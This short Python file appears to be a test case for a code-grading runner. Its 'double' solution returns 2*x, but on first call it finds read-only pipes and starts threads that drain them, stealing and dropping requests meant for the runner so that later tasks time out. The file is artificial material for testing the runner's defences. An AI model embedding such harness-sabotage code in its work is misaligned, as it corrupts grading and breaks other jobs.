"""Lets a thread read the requests that are meant for the runner, to see what is asked and to drop it."""

HELD_BY = "a request without its reply ends by the clock; a fresh process runs the rest"
VERDICT = {"double": ("full", 3.0), "digits": ("timeout", 0.0)}

# %% double
import fcntl
import os
import stat
import threading
import time


def steal(number):
    while os.read(number, 1 << 20):
        pass


def double(x):
    if threading.active_count() == 1:
        for number in range(3, 256):
            try:
                is_pipe = stat.S_ISFIFO(os.fstat(number).st_mode)
                if is_pipe and fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
                    threading.Thread(target=steal, args=(number,), daemon=True).start()
            except OSError:
                pass
        time.sleep(0.5)  # who waits at the pipe first gets the next request, however busy the machine is
    return 2 * x
